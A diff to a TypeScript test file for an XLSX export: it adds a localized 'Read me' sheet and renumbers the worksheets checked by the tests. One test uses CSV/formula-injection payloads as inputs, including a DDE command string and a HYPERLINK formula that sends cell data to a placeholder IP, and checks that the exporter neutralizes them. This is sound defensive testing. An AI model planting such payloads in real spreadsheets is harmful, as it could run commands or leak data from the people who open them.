@@ -25,13 +25,13 @@ const titled = (title: string): Blueprint => ({
 
 describe('XLSX', () => {
   it.each<[Locale, string]>([
-    ['en', 'Map,Cards,Pains,Opportunities,Emotions,Measures,Problems'],
-    ['zh-Hans', '地图,卡片,痛点,机会,情绪,度量,问题'],
-    ['zh-Hant', '地圖,卡片,痛點,機會點,情緒,衡量,問題'],
+    ['en', 'Read me,Map,Cards,Pains,Opportunities,Emotions,Measures,Problems'],
+    ['zh-Hans', '说明,地图,卡片,痛点,机会,情绪,度量,问题'],
+    ['zh-Hant', '說明,地圖,卡片,痛點,機會點,情緒,衡量,問題'],
   ])('names its sheets in %s', async (locale, names) => {
     const book = (await parts(tinyMap, { locale }))('xl/workbook.xml');
     const found = Array.from(book.matchAll(/<sheet name="([^"]+)"/g), ([, name]) => name);
-    expect(found.slice(0, 7).join()).toBe(names);
+    expect(found.slice(0, 8).join()).toBe(names);
     expect(new Set(found).size).toBe(found.length);
   });
 
@@ -43,7 +43,7 @@ describe('XLSX', () => {
   it.each(['=1+1', '+cmd|calc', '-1', '@SUM(A1)', '=HYPERLINK("http://192.0.2.1/?"&A1)'])(
     'writes %j as a text that no editing turns into a formula',
     async (title) => {
-      const cards = (await parts(titled(title)))('xl/worksheets/sheet2.xml');
+      const cards = (await parts(titled(title)))('xl/worksheets/sheet3.xml');
       expect(cards).not.toContain('<f>');
       const escaped = title.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
       const style = new RegExp(
@@ -58,12 +58,12 @@ describe('XLSX', () => {
   );
 
   it('keeps headings and the first columns in view, and offers words to choose from', async () => {
-    const cards = (await parts(tinyMap))('xl/worksheets/sheet2.xml');
+    const cards = (await parts(tinyMap))('xl/worksheets/sheet3.xml');
     expect(cards).toContain('<pane xSplit="2" ySplit="1" topLeftCell="C2"');
     expect(cards).toMatch(
       /<dataValidation type="list"[^>]*><formula1>&#39;_lists&#39;!\$D\$2:\$D\$3<\/formula1>/,
     );
-    const map = (await parts(tinyMap))('xl/worksheets/sheet1.xml');
+    const map = (await parts(tinyMap))('xl/worksheets/sheet2.xml');
     expect(map).toContain('<mergeCell ref="C1:D1"/>');
     expect(map).toContain('Line of interaction');
   });
@@ -81,12 +81,12 @@ describe('XLSX', () => {
   });
 
   it('carries characters that XML forbids visibly, and letters that the format would decode as they are', async () => {
-    const cards = (await parts(titled('a\u0000b \ud800 _x0041_')))('xl/worksheets/sheet2.xml');
+    const cards = (await parts(titled('a\u0000b \ud800 _x0041_')))('xl/worksheets/sheet3.xml');
     expect(cards).toContain('a␀b \ufffd _x005F_x0041_');
   });
 
   it('shows only what the view shows', async () => {
-    const cards = (await parts(tinyMap, { view: { laneIds: ['front'] } }))('xl/worksheets/sheet2.xml');
+    const cards = (await parts(tinyMap, { view: { laneIds: ['front'] } }))('xl/worksheets/sheet3.xml');
     expect(cards).toContain('核对证件');
     expect(cards).not.toContain('Joins the queue');
   });
